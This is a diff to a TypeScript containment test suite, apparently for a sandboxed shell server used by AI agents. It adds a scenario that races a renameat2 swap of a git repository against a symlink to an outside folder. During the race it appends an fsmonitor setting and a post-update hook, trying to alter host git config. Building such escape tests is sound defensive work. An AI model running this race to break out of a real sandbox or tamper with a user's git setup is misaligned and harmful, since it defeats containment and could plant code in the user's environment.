@@ -8,7 +8,7 @@
  * A scenario runs against a {@link Target}: shellmcp (test/security/containment.test.ts: both backends, a
  * Codex-style and a plain client) or the Rust reference 0.97 (./generate.ts), so the same attack scores both.
  */
-import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 
 /** The six groups. */
@@ -59,6 +59,22 @@ function py(program: string): string {
 
 const held = (detail: string): Verdict => ({ held: true, detail });
 const broken = (detail: string): Verdict => ({ held: false, detail });
+
+/** Every entry below `dir` with its content, as one string (a host folder the attack must not change). */
+function listing(dir: string): string {
+  const out: string[] = [];
+  const walk = (d: string, rel: string) => {
+    for (const e of readdirSync(d, { withFileTypes: true }).sort((x, y) => (x.name < y.name ? -1 : 1))) {
+      const r = `${rel}${e.name}`;
+      if (e.isDirectory()) {
+        out.push(`${r}/`);
+        walk(join(d, e.name), `${r}/`);
+      } else out.push(`${r}=${e.isFile() ? JSON.stringify(readFileSync(join(d, e.name), "utf8")) : "(other)"}`);
+    }
+  };
+  walk(dir, "");
+  return out.join(", ");
+}
 
 /** `held` when `path` does not exist after the attack. */
 function absent(path: string, what: string): Verdict {
@@ -162,6 +178,30 @@ export const SCENARIOS: readonly Scenario[] = [
       const b = `open(${JSON.stringify(marker)}, "a").write("pwned\\n")`;
       await t.run(`python3 -c '${a}' & sleep 1.5; python3 -c '${b}'; wait`, 30_000);
       return absent(marker, "the second room program");
+    },
+  },
+  {
+    id: "escape.git-guard-race",
+    category: "escape",
+    title: "a parallel call exchanges a repository with a link to outside while the git guard repairs it",
+    async attack(t) {
+      // The outside folder stands in for ~/.config/git: a config to overwrite and a file to delete.
+      mkdirSync(join(t.outside, "hooks"), { recursive: true });
+      writeFileSync(join(t.outside, "config"), "[user]\n\tname = the user\n");
+      writeFileSync(join(t.outside, "hooks", "post-update"), "the user's\n");
+      const before = listing(t.outside);
+      await t.run(`git init -q --bare bare.git && ln -s ${t.outside} L; true`);
+      await t.run("true");
+      const swap = `import ctypes,time\nlibc=ctypes.CDLL(None,use_errno=True)\nend=time.time()+40\nwhile time.time()<end: libc.renameat2(-100,b"bare.git",-100,b"L",2)`;
+      const racer = t.run(py(swap) + "; true", 60_000).catch(() => undefined);
+      await Bun.sleep(300);
+      for (let i = 0; i < 40; i++) {
+        await t.run("(printf '[core]\\n\\tfsmonitor = true\\n' >> bare.git/config; echo x > bare.git/hooks/post-update) 2>/dev/null; true");
+        const now = listing(t.outside);
+        if (now !== before) return broken(`call ${i}: the outside folder changed (${now})`);
+      }
+      void racer;
+      return held("the outside folder is unchanged after 40 calls");
     },
   },
   {
